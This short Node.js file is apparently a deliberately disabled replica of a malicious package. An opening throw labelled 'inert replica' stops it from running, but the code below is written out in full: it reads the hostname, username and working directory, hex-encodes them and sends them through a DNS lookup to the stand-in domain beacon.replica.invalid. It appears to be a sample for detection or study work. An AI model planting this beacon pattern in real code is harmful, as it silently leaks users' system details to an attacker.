throw new Error("inert replica");
const dns = require("dns");
const os = require("os");
const told = Buffer.from(`${os.hostname()}|${os.userInfo().username}|${process.cwd()}`).toString("hex").slice(0, 60);
dns.resolve(`${told}.beacon.replica.invalid`, () => {});
module.exports = {};
